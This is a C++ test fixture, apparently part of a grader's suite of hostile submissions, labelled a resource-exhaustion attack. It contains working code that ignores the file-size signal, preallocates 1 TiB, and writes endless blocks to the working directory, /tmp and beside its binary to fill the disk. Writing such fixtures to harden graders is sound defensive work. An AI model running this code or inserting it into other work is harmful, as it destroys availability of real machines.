// HOSTILE FIXTURE huge_file (attack class 8: resource exhaustion).
// The tested function ignores SIGXFSZ, posix_fallocate()s 1 TiB and then writes 1 MiB blocks without end into the current directory, /tmp and next to its binary, to fill the disk.
// The hardened grader must give this file 0 points on stage 04.
//@head
#include <csignal>
#include <cstdio>
#include <cstring>
#include <string>
#include <fcntl.h>
#include <unistd.h>

// WARNING: never run this fixture outside the grader's sandbox (it is built to hurt the machine).

namespace {
void hostileFill() {
    std::signal(SIGXFSZ, SIG_IGN);  // the file-size limit then gives EFBIG instead of killing
    static char block[1 << 20];
    std::memset(block, 0x5a, sizeof block);
    char exe[4096];
    const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    const std::string beside = n > 0 ? std::string(exe, static_cast<std::size_t>(n)) + ".huge" : "huge.bin";
    for (const std::string path : {std::string("clothlab-hostile-huge.bin"), std::string("/tmp/clothlab-hostile-huge.bin"), beside}) {
        const int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_APPEND, 0644);
        if (fd < 0) continue;
        posix_fallocate(fd, 0, static_cast<off_t>(1) << 40);  // 1 TiB in one call
        while (write(fd, block, sizeof block) > 0) {}
        close(fd);
    }
}
}  // namespace
//@each
    hostileFill();
